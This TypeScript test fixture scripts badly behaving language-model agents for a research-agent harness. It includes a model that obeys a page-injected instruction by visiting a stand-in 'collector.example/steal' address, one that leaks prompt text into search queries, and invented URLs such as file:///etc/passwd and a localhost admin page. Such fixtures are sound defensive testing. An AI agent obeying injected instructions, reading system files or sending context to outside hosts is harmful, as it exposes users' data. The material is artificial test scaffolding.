/**
 * Models that ignore instructions, each in its own way; other requests are answered as a good model would.
 * `empty_results` and `poor` change the search and the number of calls: see `agentic-runs.ts`.
 */
import { findingsAndBrief, nextAct } from './scripted-researcher';
import { answerTo } from './scripted-writer';

/** `text`: the model's answer. `status`: the service fails. `silent`: no answer in time. */
export type ModelAnswer = { readonly text: string } | { readonly status: number } | 'silent';

type Answerer = (form: string, prompt: string, count: number) => unknown;

/** Words found only in an instruction that a page injects. */
export const ORDERED_WORDS = 'zanzibar pineapple voucher code giveaway';
/** An address that no search returns and no note links. */
export const ORDERED_ADDRESS = 'https://collector.example/steal?data=everything';
const INVENTED = [
	'https://invented.example/a',
	'http://127.0.0.1/admin',
	'file:///etc/passwd',
	'SOURCE 99',
	ORDERED_ADDRESS,
];

const act = (name: string, over: object = {}): object => ({ thought: 'So.', act: name, query: '', urls: [], ...over });
const forAct =
	(answer: (prompt: string, count: number) => unknown): Answerer =>
	(form, prompt, count) =>
		form === 'act' ? answer(prompt, count) : undefined;

/** The misbehaviour of each model; undefined for forms that it fills in sensibly. */
const MANNERS: Readonly<Record<string, Answerer>> = {
	sensible: () => undefined,
	loops: forAct(() => act('search_web', { query: 'oak growth each year' })),
	rereads: forAct(() => act('read_page', { urls: ['1', '1', '2', '3'] })),
	unknown_acts: forAct((_, count) => act(['delete_note', 'run_code', '', 'SEARCH'][count % 4] ?? '')),
	malformed: forAct(
		(_, count) =>
			[{ act: 'read_page', urls: 'all' }, { act: 7 }, [], { act: 'search_web', query: ['x'] }][count % 4],
	),
	no_json: forAct(() => 'I would rather tell you a story about trees.'),
	thinks: forAct(() => act('think', { thought: 'Hmm. '.repeat(300) })),
	obeys: forAct((prompt, count) => orderIn(prompt, count)),
	invents: forAct((_, count) => act('read_page', { urls: INVENTED.slice(count % 3) })),
	no_brief: (form) =>
		form === 'brief'
			? { findings: [{ source: '1', quote: 'Nobody wrote these words anywhere.', says: 'Lies.' }], brief: '' }
			: undefined,
	broken_brief: (form) => (form === 'brief' ? 'My brief: all is well.' : undefined),
	refuses: (form) =>
		form === 'act' || form === 'brief' || form === 'supervision'
			? 'I’m sorry, but I can’t help with that.'
			: undefined,
	never_enough: (form, _, count) => {
		if (form !== 'supervision') return undefined;
		const followUps = ['T1', 'T2', 'T99', 'T1'].map((topic) => ({
			topic,
			question: `What about aspect ${count} of ${topic} and more besides?`,
		}));
		return { missing: 'Everything.', coverage: 'incomplete', followUps };
	},
	leaks: forAct((prompt) =>
		act('search_web', {
			query: /--- SOURCE \d+: .*\nNOTE: [^\n]*\n(?:SUMMARY:\n)?([^\n]{30,200})/.exec(prompt)?.[1] ?? 'oak',
		}),
	),
	floods: forAct((_, count) =>
		act('search_web', {
			query: `tree ${count} ${'words '.repeat(400)}`,
			urls: Array.from({ length: 200 }, (_, index) => `https://flood.example/${index}`),
		}),
	),
};
export const SCENARIOS = [
	...Object.keys(MANNERS),
	'empty_results',
	'failing',
	'rate_limited',
	'silent',
	'poor',
] as const;

/** Returns the act that an instruction in the results demands, for a model that obeys it. */
function orderIn(prompt: string, count: number): unknown {
	const results = [...prompt.matchAll(/<results-(\w+)>\n([^]*?)\n<\/results-\1>/g)]
		.map(([, , text = '']) => text)
		.join('\n');
	const isOrdered = results.includes(ORDERED_ADDRESS);
	if (!isOrdered) return nextAct(prompt);
	return count % 2 === 0
		? act('read_page', { urls: [ORDERED_ADDRESS] })
		: act('search_web', { query: ORDERED_WORDS });
}

/** @param count number of earlier requests in this run */
export async function misbehave(scenario: string, form: string, prompt: string, count: number): Promise<ModelAnswer> {
	const isGuideForm = form === 'act' || form === 'brief' || form === 'supervision';
	if (scenario === 'failing' && isGuideForm) return { status: 400 };
	if (scenario === 'rate_limited' && isGuideForm) return { status: 429 };
	if (scenario === 'silent' && isGuideForm) return 'silent';
	const answer = MANNERS[scenario]?.(form, prompt, count) ?? (await sensible(form, prompt));
	return { text: typeof answer === 'string' ? answer : JSON.stringify(answer) };
}

async function sensible(form: string, prompt: string): Promise<unknown> {
	if (form === 'act') return nextAct(prompt);
	if (form === 'brief') return findingsAndBrief(prompt);
	if (form === 'supervision') return { missing: '', coverage: 'enough', followUps: [] };
	return answerTo(form, prompt);
}
